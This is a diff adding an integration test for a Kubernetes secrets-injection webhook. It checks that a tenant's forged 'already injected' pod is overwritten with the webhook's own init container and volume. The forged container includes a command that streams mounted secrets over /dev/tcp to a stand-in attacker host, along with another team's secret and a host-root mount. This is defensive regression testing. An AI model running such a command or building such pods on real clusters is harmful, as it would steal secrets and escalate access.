@@ -25,6 +25,7 @@ import {
   ApiException,
   AppsV1Api,
   CoreV1Api,
+  RbacAuthorizationV1Api,
   type V1Container,
   type V1Deployment,
   type V1Pod,
@@ -461,6 +462,65 @@ describe('injector on the test bed', () => {
       );
     }
     await assert.rejects(core.readNamespacedPod({ namespace, name: 'denied-0' }), { code: 404 });
+  });
+
+  test("a tenant's pod claiming to be injected, with its own smk-agent-init, gets exactly smk's container and volume", async () => {
+    // Issue 14 finding 10: `smk.dev/status: injected` made the webhook keep a user container under
+    // the reserved name with its own args, envFrom and lifecycle (and merge the reserved volume).
+    const tenant = `tenant-${runId}`;
+    const rbac = bed.kubeConfig.makeApiClient(RbacAuthorizationV1Api);
+    await rbac.createNamespacedRole({
+      namespace,
+      body: {
+        metadata: { name: tenant },
+        rules: [{ apiGroups: [''], resources: ['pods'], verbs: ['create', 'get'] }],
+      },
+    });
+    await rbac.createNamespacedRoleBinding({
+      namespace,
+      body: {
+        metadata: { name: tenant },
+        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: tenant },
+        subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: tenant }],
+      },
+    });
+    const asTenant = (await bed.kubeConfigFor(tenant)).makeApiClient(CoreV1Api);
+    const forged: V1Container = {
+      name: initContainerName,
+      image: 'registry.invalid/not-smk:1',
+      command: ['sh', '-c'],
+      args: ['cat /var/run/secrets/smk/* > /dev/tcp/attacker.invalid/80'],
+      envFrom: [{ secretRef: { name: 'other-teams-secret' } }],
+      lifecycle: { postStart: { exec: { command: ['sh', '-c', 'true'] } } },
+    };
+    const stored = await eventually('the tenant may create pods', () =>
+      asTenant.createNamespacedPod({
+        namespace,
+        body: {
+          metadata: {
+            name: 'forged-injected',
+            annotations: {
+              'smk.dev/inject': 'true',
+              'smk.dev/objects': '- {objectName: db, objectType: secretsmanager}',
+              'smk.dev/status': 'injected',
+            },
+          },
+          spec: {
+            initContainers: [forged],
+            containers: [{ name: 'app', image: 'registry.invalid/app:1' }],
+            volumes: [{ name: volumeName, hostPath: { path: '/' } }],
+          },
+        },
+      }),
+    );
+    const init = container(stored, initContainerName);
+    assert.equal(init.image, agentImage);
+    assert.deepEqual(init.command, ['smk', 'agent', 'init']);
+    for (const field of ['args', 'envFrom', 'lifecycle'] as const)
+      assert.equal(init[field], undefined, field);
+    assert.equal(init.securityContext?.readOnlyRootFilesystem, true);
+    const volume = stored.spec?.volumes?.find((candidate) => candidate.name === volumeName);
+    assert.deepEqual(plain(volume), { name: volumeName, emptyDir: { medium: 'Memory', sizeLimit: '4Mi' } });
   });
 
   test('a pod without annotations passes untouched', async () => {
